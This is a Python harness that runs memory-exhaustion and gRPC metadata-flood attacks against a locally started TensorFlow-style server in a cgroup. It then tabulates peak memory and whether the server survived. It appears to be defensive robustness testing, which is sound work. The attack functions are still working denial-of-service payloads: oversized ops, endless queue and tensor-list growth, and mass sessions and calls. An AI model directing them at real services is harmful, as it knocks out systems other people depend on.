#!/usr/bin/env python3
"""Tries to make a server take more memory than its cgroup has, and prints a table.

    attacks.py THALWEG --cgroup DIR [--limit BYTES] [--only PATTERN]

DIR is a new folder of a memory cgroup (version 1), e.g. /sys/fs/cgroup/memory/attacks; this needs the right to make it.
Each attack has a server of its own with default limits. A server that is killed is a failure.
"""

import argparse
import os
import pathlib
import re
import signal
import subprocess
import sys
import threading
import time

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import numpy as np  # noqa: E402
import tensorflow as tf  # noqa: E402
from tensorflow.core.protobuf import config_pb2  # noqa: E402

v1, raw = tf.compat.v1, tf.raw_ops
v1.disable_v2_behavior()
v1.logging.set_verbosity("ERROR")

ATTACKS = {}


def attack(run):
    """Registers an attack: a function of a target."""
    ATTACKS[run.__name__] = run
    return run


def once(target, build, timeout=120, **options):
    """Runs the op that `build` returns."""
    with tf.Graph().as_default(), v1.Session(target) as session:
        fetched = build()
        session.run(fetched, options=config_pb2.RunOptions(timeout_in_ms=timeout * 1000, **options))


def numbers(count):
    """Different floats, made by the server."""
    return tf.cast(tf.range(count), tf.float32)


@attack
def unique(target):
    once(target, lambda: tf.unique(numbers(30_000_000)).y[0])


@attack
def unique_with_counts(target):
    once(target, lambda: tf.unique_with_counts(numbers(30_000_000)).y[0])


@attack
def list_diff(target):
    once(target, lambda: raw.ListDiff(x=numbers(30_000_000), y=numbers(30_000_000) + 0.5).out[0])


@attack
def where(target):
    once(target, lambda: tf.where(numbers(60_000_000) > -1.0)[0, 0])


@attack
def unpack(target):
    once(target, lambda: tf.unstack(tf.zeros([200_000]))[199_999])


@attack
def split(target):
    once(target, lambda: tf.split(tf.zeros([200_000]), 200_000)[199_999])


@attack
def dynamic_partition(target):
    once(target, lambda: tf.dynamic_partition(tf.zeros([200_000]), tf.range(200_000), 200_000)[199_999])


@attack
def enqueue_many(target):
    def build():
        queue = v1.FIFOQueue(-1, tf.float32, [], shared_name="many")
        return queue.enqueue_many(tf.zeros([1_000_000]))

    for _ in range(6):
        once(target, build)


@attack
def tensor_list_from_tensor(target):
    once(target, lambda: raw.TensorListLength(input_handle=raw.TensorListFromTensor(tensor=tf.zeros([4_000_000]), element_shape=tf.constant([], tf.int32))))


@attack
def push_back(target):
    def build():
        v1.enable_control_flow_v2()
        try:
            empty = raw.EmptyTensorList(element_shape=tf.constant([], tf.int32), max_num_elements=-1, element_dtype=tf.float32)
            loop = tf.while_loop(lambda i, _: i < 1 << 30, lambda i, l: (i + 1, raw.TensorListPushBack(input_handle=l, tensor=tf.cast(i, tf.float32))), [0, empty])
            return raw.TensorListLength(input_handle=loop[1])
        finally:
            v1.disable_control_flow_v2()

    once(target, build, timeout=240)


@attack
def push_one_value_back(target):
    def build():
        v1.enable_control_flow_v2()
        try:
            one = tf.constant(1.0)
            empty = raw.EmptyTensorList(element_shape=tf.constant([], tf.int32), max_num_elements=-1, element_dtype=tf.float32)
            loop = tf.while_loop(lambda i, _: i < 1 << 30, lambda i, l: (i + 1, raw.TensorListPushBack(input_handle=l, tensor=one)), [0, empty])
            return raw.TensorListLength(input_handle=loop[1])
        finally:
            v1.disable_control_flow_v2()

    once(target, build, timeout=240)


@attack
def enqueue_one_value(target):
    def build():
        queue = v1.FIFOQueue(-1, tf.float32, [], shared_name="one")
        one = tf.constant(1.0)

        def body(i):
            with tf.control_dependencies([queue.enqueue(one)]):
                return i + 1

        return tf.while_loop(lambda i: i < 1 << 30, body, [0])

    once(target, build, timeout=240)


@attack
def stack_of_one_value(target):
    def build():
        stack = raw.StackV2(max_size=-1, elem_type=tf.float32)
        one = tf.constant(1.0)

        def body(i):
            with tf.control_dependencies([raw.StackPushV2(handle=stack, elem=one)]):
                return i + 1

        return tf.while_loop(lambda i: i < 1 << 30, body, [0])

    once(target, build, timeout=240)


@attack
def large_headers(target):
    """4,000 calls with 15 KB of metadata on each of eight connections, whose requests never come."""
    import asyncio

    import grpc

    metadata = [(f"x-{i}", "h" * 1000) for i in range(15)]
    address = target.removeprefix("grpc://")

    async def run():
        calls, codes = [], {}
        for _ in range(8):
            channel = grpc.aio.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
            step = channel.stream_stream("/tensorflow.MasterService/RunStep")
            for _ in range(4000):
                calls.append((channel, step(metadata=metadata, timeout=30)))
                await asyncio.sleep(0)
        await asyncio.sleep(15)
        for _, call in calls:
            code = (await call.code()).name if call.done() else "open"
            codes[code] = codes.get(code, 0) + 1
        raise RuntimeError(f"after 15 s: {codes}")

    asyncio.run(run())


@attack
def stack_of_gradient(target):
    def build():
        x = tf.constant(1.0)
        y = tf.while_loop(lambda i, _: i < 1 << 30, lambda i, y: (i + 1, tf.sin(y) * y), [0, x])[1]
        return tf.gradients(y, x)

    once(target, build, timeout=240)


@attack
def plans(target):
    with tf.Graph().as_default(), v1.Session(target) as session:
        x = v1.placeholder(tf.float32, [None])
        y = x
        for _ in range(4000):
            y = tf.sin(y)
        for size in range(1, 300):
            session.run(y, {x: np.zeros([size], np.float32)})


@attack
def partial_runs(target):
    with tf.Graph().as_default(), v1.Session(target) as session:
        x = v1.placeholder(tf.float32, [4])
        y = x
        for _ in range(4000):
            y = tf.sin(y)
        for _ in range(200):
            session.partial_run_setup([y], [x])


@attack
def endless_trace(target):
    def build():
        v1.enable_control_flow_v2()
        try:
            return tf.while_loop(lambda i: i < 1 << 30, lambda i: i + 1, [0])
        finally:
            v1.disable_control_flow_v2()

    once(target, build, timeout=180, trace_level=config_pb2.RunOptions.FULL_TRACE)


@attack
def sessions(target):
    kept = []
    for _ in range(3000):
        with tf.Graph().as_default():
            session = v1.Session(target)
            session.run(tf.constant(1.0) + 1.0)
            kept.append(session)


class Server:
    """A server in a cgroup of its own."""

    def __init__(self, program, cgroup, limit):
        self.cgroup = pathlib.Path(cgroup)
        self.cgroup.mkdir(exist_ok=True)
        (self.cgroup / "memory.limit_in_bytes").write_text(str(limit))
        (self.cgroup / "memory.max_usage_in_bytes").write_text("0")
        self.address = f"127.0.0.1:{20_000 + os.getpid() % 20_000}"
        join = lambda: (self.cgroup / "cgroup.procs").write_text(str(os.getpid()))
        self.process = subprocess.Popen(
            [program, "server", "--listen", self.address, "--threads", "2"], preexec_fn=join, stderr=subprocess.DEVNULL
        )
        time.sleep(1.5)

    def peak(self):
        return int((self.cgroup / "memory.max_usage_in_bytes").read_text())

    def end(self):
        """Its signal, if it was killed."""
        status = self.process.poll()
        if status is None:
            self.process.send_signal(signal.SIGKILL)
            self.process.wait()
        time.sleep(0.3)
        self.cgroup.rmdir()
        return status


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("program")
    parser.add_argument("--cgroup", required=True)
    parser.add_argument("--limit", type=int, default=1 << 30)
    parser.add_argument("--only", default="")
    parser.add_argument("--seconds", type=int, default=300)
    args = parser.parse_args()
    failed = 0
    print("| attack | answer | seconds | peak MiB | server |\n| --- | --- | --- | --- | --- |", flush=True)
    for name, run in ATTACKS.items():
        if not re.search(args.only, name):
            continue
        server = Server(args.program, args.cgroup, args.limit)
        answer = []

        def client(run=run, server=server, answer=answer):
            try:
                run(f"grpc://{server.address}")
                answer.append("ok")
            except Exception as error:  # noqa: BLE001
                text = " ".join(str(error).split("Original stack")[0].split())
                answer.append(f"{type(error).__name__}: {text[-110:]}")

        began = time.time()
        thread = threading.Thread(target=client, daemon=True)
        thread.start()
        while thread.is_alive() and server.process.poll() is None and time.time() - began < args.seconds:
            time.sleep(0.1)
        seconds, peak = time.time() - began, server.peak() >> 20
        status = server.end()
        thread.join(5)
        failed += status is not None
        state = "alive" if status is None else f"ended with {status}"
        print(f"| {name} | {(answer or ['none yet'])[0].replace('|', '/')} | {seconds:.1f} | {peak} | {state} |", flush=True)
    sys.stdout.flush()
    os._exit(1 if failed else 0)


if __name__ == "__main__":
    main()
